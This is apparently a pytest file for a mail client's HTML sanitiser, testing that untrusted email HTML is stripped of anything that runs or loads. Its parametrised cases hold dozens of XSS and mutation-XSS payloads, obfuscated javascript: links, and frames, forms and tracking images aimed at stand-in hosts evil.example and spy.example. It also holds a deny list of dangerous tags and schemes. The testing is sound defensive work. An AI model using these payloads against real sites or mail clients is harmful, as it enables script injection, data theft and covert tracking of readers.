"""HTML of strangers is shown without anything that acts or loads."""

import pytest

from maildesk.mail import pages

TRACES = (
    *(
        "<script",
        "<iframe",
        "<form",
        "<svg",
        "<math",
        "<style",
        "<base",
        "<meta",
        "<link",
        "<object",
        "<embed",
        "<input",
        "<button",
    ),
    *("onerror", "onload", "onclick", "javascript:", "vbscript:", "data:", "file:", "url(", "expression(", "@import", "srcset"),
    *("spy.example", "evil.example"),
)


@pytest.mark.parametrize(
    "attack",
    [
        # scripts, and what only looks closed
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        "<script src=//evil.example/x.js></script",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<textarea><script>alert(1)</script></textarea>",
        "<template><script>alert(1)</script></template>",
        # handlers
        "<img src=x onerror=alert(1)>",
        "<img src=x oNeRrOr = alert(1)//",
        "<body onload=alert(1)>x",
        "<b onclick='alert(1)' onmouseover=alert(1)>x</b>",
        "<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>x</details>",
        "<img\x0bsrc=x\x0conerror\x0d=alert(1)>",
        # mutation
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror=alert(1)></noscript></desc></svg>",
        "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s><set attributeName=href to=javascript:alert(1)></svg>",
        "<xmp><script>alert(1)</script></xmp><listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
        # addresses
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='&#x6a;avascript&colon;alert(1)'>x</a>",
        "<a href=' \x01javascript:alert(1)'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        # frames, forms, documents
        "<iframe src='http://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='http://evil.example/x.swf'></object><embed src='http://evil.example/x'>",
        "<form action='http://evil.example'><button formaction='//evil.example'>x</button></form>",
        "<link rel=stylesheet href='http://spy.example/a.css'><base href='//evil.example'>",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>",
        # what loads when it is only looked at
        "<img src='http://spy.example/x.gif'><img srcset='http://spy.example/y.gif 2x'>",
        "<img src='//spy.example/x.gif'><img src='cid:a' longdesc='http://spy.example/'>",
        "<body background='http://spy.example/z.gif'>x",
        "<table background='http://spy.example/t.gif'><tr><td background='http://spy.example/t.gif'>x</td></tr></table>",
        "<video poster='http://spy.example/v.gif'><source src='http://spy.example/v.mp4'></video>",
        "<audio src='//spy.example/a' autoplay></audio>",
        "<picture><source srcset='http://spy.example/p.webp'><img src='cid:p'></picture>",
        "<bgsound src='//spy.example/b.wav'>",
        # styles
        "<div style=\"background:url('http://spy.example/x')\">x</div>",
        "<div style='background-image:u\\72l(http://spy.example/x)'>x</div>",
        "<div style='border:1px solid url(http://spy.example/x)'>x</div>",
        "<div style='color:red;list-style:url(//spy.example/l)'>x</div>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<style>@import 'http://spy.example/a.css';</style><div style='-moz-binding:url(//evil.example/x)'>x</div>",
        "<p style='font-family:x;content:url(//spy.example/c)'>x</p>",
    ],
)
def test_nothing_of_an_attack_is_left_in_the_page(attack: str) -> None:
    page = pages.sanitised(attack).lower()
    assert [trace for trace in TRACES if trace in page.replace("&lt;", "")] == []


def test_what_is_harmless_is_sanitised_to_itself() -> None:
    page = pages.sanitised("<svg><p>a<b>b</b></svg><img src='cid:x'><a href='https://example.org/?a=1&b=2'>c</a>")
    assert pages.sanitised(page) == page


def test_pictures_that_came_with_the_mail_stay() -> None:
    assert 'src="cid:logo@x"' in pages.sanitised('<img src="cid:logo@x">')


def test_pictures_written_into_the_page_are_counted_and_left_out() -> None:
    picture = "<img src='data:image/png;base64," + "iVBORw0KGgo\n" * 20 + "'>"
    page, embedded = pages.without_embedded(f"a{picture}b{picture}c")
    assert embedded == 2
    assert len(page) < 100


def test_a_deep_page_loses_no_word() -> None:
    page = pages.sanitised("<div>" * 600 + "deep words" + "</div>" * 600)
    assert pages.text(page) == "deep words"
